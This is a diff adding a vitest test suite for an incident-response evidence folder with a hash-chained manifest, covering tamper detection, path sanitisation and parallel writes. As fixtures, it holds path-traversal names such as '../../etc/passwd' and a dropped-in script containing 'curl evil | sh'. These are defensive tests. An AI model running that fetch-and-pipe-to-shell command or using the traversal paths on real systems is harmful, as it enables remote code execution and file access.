@@ -1,0 +1,191 @@
+/** Local evidence folders: chained manifest, no overwrites, sanitized names, parallel writers, tamper detection. */
+import { appendFile, mkdtemp, readFile, rm, unlink, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { LocalCaseFolder } from '../../../src/evidence/local-case-folder.js';
+import { openEvidence } from '../../../src/evidence/open-evidence.js';
+import { verifyManifest } from '../../../src/evidence/verify-manifest.js';
+import { parseEntryLine, sha256Hex } from '../../../src/evidence/manifest-chain.js';
+import { NotFoundError, UsageError } from '../../../src/errors.js';
+
+let root: string;
+
+beforeEach(async () => {
+  root = await mkdtemp(join(tmpdir(), 'tourniquet-evidence-'));
+});
+
+afterEach(async () => {
+  await rm(root, { recursive: true, force: true });
+});
+
+async function manifestLines(dir: string): Promise<string[]> {
+  return (await readFile(join(dir, 'manifest.jsonl'), 'utf8')).split('\n').filter((l) => l !== '');
+}
+
+async function threeArtefacts(): Promise<LocalCaseFolder> {
+  const w = new LocalCaseFolder(root, 'inc-1');
+  await w.put('finding.json', { id: 'f1', type: 'CryptoCurrency:EC2/BitcoinTool.B!DNS' });
+  await w.put('console.txt', 'boot log\n');
+  await w.put('memory/ram.bin', new Uint8Array([1, 2, 3, 4]));
+  return w;
+}
+
+describe('LocalCaseFolder', () => {
+  it('stores artefacts and a chained manifest that verifies', async () => {
+    const w = await threeArtefacts();
+    expect(w.location).toBe(`file://${join(root, 'inc-1')}`);
+    const json = await readFile(join(w.dir, 'finding.json'), 'utf8');
+    expect(json).toBe('{\n  "id": "f1",\n  "type": "CryptoCurrency:EC2/BitcoinTool.B!DNS"\n}\n');
+    expect([...(await readFile(join(w.dir, 'memory', 'ram.bin')))]).toEqual([1, 2, 3, 4]);
+    const entries = (await manifestLines(w.dir)).map((l) => parseEntryLine(l)!);
+    expect(entries.map((e) => [e.seq, e.name, e.bytes])).toEqual([
+      [1, 'finding.json', json.length],
+      [2, 'console.txt', 9],
+      [3, 'memory/ram.bin', 4],
+    ]);
+    expect(entries[0]!.sha256).toBe(sha256Hex(json));
+    const report = await verifyManifest(w.location);
+    expect(report).toMatchObject({ ok: true, entries: 3, verified: 3, headChain: entries[2]!.chain, unlisted: [] });
+    // A plain path works too.
+    expect((await verifyManifest(w.dir)).ok).toBe(true);
+  });
+
+  it('never overwrites: a taken name gets a suffix', async () => {
+    const w = new LocalCaseFolder(root, 'inc-1');
+    const a = await w.put('steps/isolate/result.json', { attempt: 1 });
+    const b = await w.put('steps/isolate/result.json', { attempt: 2 });
+    const c = await w.put('steps/isolate/result.json', { attempt: 3 });
+    expect([a.name, b.name, c.name]).toEqual(['steps/isolate/result.json', 'steps/isolate/result-2.json', 'steps/isolate/result-3.json']);
+    expect(JSON.parse(await readFile(join(w.dir, 'steps/isolate/result.json'), 'utf8'))).toEqual({ attempt: 1 });
+    expect(JSON.parse(await readFile(join(w.dir, 'steps/isolate/result-2.json'), 'utf8'))).toEqual({ attempt: 2 });
+    // A file that appeared outside the manifest is not overwritten either.
+    await writeFile(join(w.dir, 'stray.txt'), 'not mine');
+    const d = await w.put('stray.txt', 'mine');
+    expect(d.name).toBe('stray-2.txt');
+    expect(await readFile(join(w.dir, 'stray.txt'), 'utf8')).toBe('not mine');
+  });
+
+  it('keeps hostile names inside the case folder', async () => {
+    const w = new LocalCaseFolder(root, '../escape');
+    expect(w.dir.startsWith(root)).toBe(true);
+    const names = [
+      (await w.put('../../outside.json', 1)).name,
+      (await w.put('/etc/passwd', 'x')).name,
+      (await w.put('a\u0000b\u001b[31m.txt', 'x')).name,
+      (await w.put('manifest.jsonl', 'fake manifest')).name,
+    ];
+    expect(names).toEqual(['outside.json', 'etc/passwd', 'ab_31m.txt', '_manifest.jsonl']);
+    const report = await verifyManifest(w.location);
+    expect(report).toMatchObject({ ok: true, entries: 4, unlisted: [] });
+  });
+
+  it('keeps the chain linear under parallel puts, also from two writers on one folder', async () => {
+    const a = new LocalCaseFolder(root, 'inc-par');
+    const b = new LocalCaseFolder(root, 'inc-par');
+    const results = await Promise.all(
+      Array.from({ length: 40 }, (_, i) => (i % 2 === 0 ? a : b).put(`steps/s${i % 5}/result.json`, { i })),
+    );
+    expect(results.map((r) => r.seq).sort((x, y) => x - y)).toEqual(Array.from({ length: 40 }, (_, i) => i + 1));
+    expect(new Set(results.map((r) => r.name)).size).toBe(40);
+    const lines = await manifestLines(a.dir);
+    expect(lines.map((l) => parseEntryLine(l)!.seq)).toEqual(Array.from({ length: 40 }, (_, i) => i + 1));
+    expect(await verifyManifest(a.location)).toMatchObject({ ok: true, entries: 40 });
+  });
+
+  it('continues an existing case (a later run appends to the same chain)', async () => {
+    const first = await threeArtefacts();
+    const later = new LocalCaseFolder(root, 'inc-1');
+    const e = await later.put('release.json', { by: 'alice' });
+    expect(e.seq).toBe(4);
+    expect(await verifyManifest(first.location)).toMatchObject({ ok: true, entries: 4 });
+  });
+
+  it('refuses to extend a damaged manifest', async () => {
+    const w = await threeArtefacts();
+    await appendFile(join(w.dir, 'manifest.jsonl'), '{"seq": 4, "trunc');
+    await expect(w.put('more.json', {})).rejects.toMatchObject({ code: 'evidence.manifest-damaged' });
+  });
+});
+
+describe('verifyManifest (local)', () => {
+  it('detects a changed artefact', async () => {
+    const w = await threeArtefacts();
+    await writeFile(join(w.dir, 'console.txt'), 'boot LOG\n'); // same size, other content
+    expect((await verifyManifest(w.location)).firstBreak).toMatchObject({ reason: 'hash-mismatch', seq: 2, name: 'console.txt' });
+    await writeFile(join(w.dir, 'console.txt'), 'short');
+    const report = await verifyManifest(w.location);
+    expect(report).toMatchObject({ ok: false, verified: 1, firstBreak: { reason: 'size-mismatch', seq: 2 } });
+  });
+
+  it('detects a missing artefact', async () => {
+    const w = await threeArtefacts();
+    await unlink(join(w.dir, 'memory', 'ram.bin'));
+    expect((await verifyManifest(w.location)).firstBreak).toMatchObject({ reason: 'missing-artefact', seq: 3, name: 'memory/ram.bin' });
+  });
+
+  it('detects an edited manifest line (hash swapped to match a replaced file)', async () => {
+    const w = await threeArtefacts();
+    await writeFile(join(w.dir, 'console.txt'), 'forged\n');
+    const lines = await manifestLines(w.dir);
+    const entry = parseEntryLine(lines[1]!)!;
+    lines[1] = JSON.stringify({ ...entry, sha256: sha256Hex('forged\n'), bytes: 7 });
+    await writeFile(join(w.dir, 'manifest.jsonl'), `${lines.join('\n')}\n`);
+    expect((await verifyManifest(w.location)).firstBreak).toMatchObject({ reason: 'chain-mismatch', seq: 2 });
+  });
+
+  it('detects a removed or reordered manifest line', async () => {
+    const w = await threeArtefacts();
+    const lines = await manifestLines(w.dir);
+    await writeFile(join(w.dir, 'manifest.jsonl'), `${[lines[0], lines[2]].join('\n')}\n`);
+    expect((await verifyManifest(w.location)).firstBreak).toMatchObject({ reason: 'seq-mismatch', seq: 2 });
+    await writeFile(join(w.dir, 'manifest.jsonl'), `${[lines[1], lines[0], lines[2]].join('\n')}\n`);
+    expect((await verifyManifest(w.location)).firstBreak).toMatchObject({ reason: 'seq-mismatch', seq: 1 });
+  });
+
+  it('detects a malformed line and an entry pointing outside the case', async () => {
+    const w = await threeArtefacts();
+    const lines = await manifestLines(w.dir);
+    await writeFile(join(w.dir, 'manifest.jsonl'), `${lines[0]}\nnot json\n`);
+    expect((await verifyManifest(w.location)).firstBreak).toMatchObject({ reason: 'malformed-entry', seq: 2 });
+    const entry = parseEntryLine(lines[0]!)!;
+    await writeFile(join(w.dir, 'manifest.jsonl'), `${JSON.stringify({ ...entry, name: '../../etc/passwd' })}\n`);
+    expect((await verifyManifest(w.location)).firstBreak).toMatchObject({ reason: 'malformed-entry', seq: 1 });
+  });
+
+  it('detects a cut tail only against an anchored head', async () => {
+    const w = await threeArtefacts();
+    const head = (await verifyManifest(w.location)).headChain!;
+    const lines = await manifestLines(w.dir);
+    await writeFile(join(w.dir, 'manifest.jsonl'), `${lines.slice(0, 2).join('\n')}\n`);
+    const unanchored = await verifyManifest(w.location);
+    expect(unanchored.ok).toBe(true); // internally consistent …
+    expect(unanchored.unlisted).toEqual(['memory/ram.bin']); // … with an artefact nobody lists
+    expect((await verifyManifest(w.location, { expectHead: head })).firstBreak).toMatchObject({ reason: 'head-missing' });
+  });
+
+  it('reports files the manifest does not list', async () => {
+    const w = await threeArtefacts();
+    await writeFile(join(w.dir, 'dropped-in.sh'), 'curl evil | sh');
+    const report = await verifyManifest(w.location);
+    expect(report).toMatchObject({ ok: true, unlisted: ['dropped-in.sh'] });
+  });
+
+  it('says when the case folder does not exist', async () => {
+    await expect(verifyManifest(`file://${join(root, 'nope')}`)).rejects.toBeInstanceOf(NotFoundError);
+  });
+});
+
+describe('openEvidence', () => {
+  it('needs exactly one location', async () => {
+    await expect(openEvidence('inc-1', {})).rejects.toBeInstanceOf(UsageError);
+    await expect(openEvidence('inc-1', { dir: root, s3Uri: 's3://bucket-name/p' })).rejects.toBeInstanceOf(UsageError);
+  });
+
+  it('opens a local case folder', async () => {
+    const w = await openEvidence('inc-7', { dir: root, now: () => new Date('2026-11-28T10:00:00.000Z') });
+    const e = await w.put('a.json', {});
+    expect(e.recordedAt).toBe('2026-11-28T10:00:00.000Z');
+    expect(w.location).toBe(`file://${join(root, 'inc-7')}`);
+  });
+});
